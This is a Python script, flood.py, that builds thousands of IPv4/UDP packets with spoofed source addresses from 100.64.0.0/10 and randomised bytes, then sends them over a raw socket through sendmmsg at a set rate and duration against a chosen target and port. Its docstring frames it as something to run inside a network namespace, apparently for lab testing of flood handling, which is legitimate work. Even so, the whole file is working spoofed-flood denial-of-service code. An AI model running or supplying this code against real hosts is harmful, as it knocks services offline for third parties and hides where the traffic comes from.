"""A flood of UDP datagrams from false addresses: `python flood.py TARGET PORT RATE SECONDS PAYLOAD`, in a namespace.

Every packet has another source address and another first eight bytes. All are made beforehand and sent by sendmmsg(2),
many at a time, at RATE a second; the last line printed says how many went out. Standard library only: it is run by its
path. IPv4 only, and only within the namespace that it is started in.
"""

import ctypes
import os
import random
import socket
import struct
import sys
import time

BATCH = 200
DIFFERENT_PACKETS = 20_000
_libc = ctypes.CDLL(None, use_errno=True)


class _IoVector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _Message(ctypes.Structure):
    """struct mmsghdr."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint),
        ("vectors", ctypes.POINTER(_IoVector)),
        ("vector_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("sent", ctypes.c_uint),
    )


def packets(target: str, port: int, payload: bytes, count: int) -> list[bytes]:
    """So many IPv4 packets; the kernel fills in lengths and the header's checksum, UDP goes without one."""
    chance = random.Random(7)
    destination = socket.inet_aton(target)
    made = []
    for _ in range(count):
        # 100.64.0.0/10: nobody's address (RFC 6598).
        source = (0x64400000 | chance.getrandbits(22)).to_bytes(4)
        ip_header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, source, destination)
        udp_header = struct.pack("!HHHH", chance.randrange(1024, 65536), port, 8 + len(payload), 0)
        made.append(ip_header + udp_header + chance.randbytes(8) + payload[8:])
    return made


def batches(sock: socket.socket, target: str, made: list[bytes]) -> list[ctypes.Array[_Message]]:
    """The packets as sendmmsg wants them, BATCH in each array. What they point to lives as long as they do."""
    address = ctypes.create_string_buffer(struct.pack("=H2x4s8x", sock.family, socket.inet_aton(target)))
    result = []
    for start in range(0, len(made), BATCH):
        part = made[start : start + BATCH]
        array = (_Message * len(part))()
        for message, data in zip(array, part, strict=True):
            buffer = ctypes.create_string_buffer(data, len(data))
            vector = _IoVector(ctypes.addressof(buffer), len(data))
            message.name, message.name_length = ctypes.addressof(address), 16
            message.vectors, message.vector_count = ctypes.pointer(vector), 1
            array._kept = (*getattr(array, "_kept", ()), buffer, vector, address)  # type: ignore[attr-defined]
        result.append(array)
    return result


def flood(target: str, port: int, rate: int, seconds: float, payload: bytes) -> int:
    """Sends; how many packets."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        arrays = batches(sock, target, packets(target, port, payload, DIFFERENT_PACKETS))
        print("flooding", flush=True)
        start = time.monotonic()
        sent = turn = 0
        while (now := time.monotonic() - start) < seconds:
            if sent >= now * rate:
                time.sleep(0.001)
                continue
            array = arrays[turn % len(arrays)]
            done = _libc.sendmmsg(sock.fileno(), array, len(array), 0)
            if done < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            sent += done
            turn += 1
        return sent


def main() -> None:
    """The command."""
    target, port, rate, seconds, payload = sys.argv[1:]
    print(flood(target, int(port), int(rate), float(seconds), bytes.fromhex(payload)))


if __name__ == "__main__":
    main()
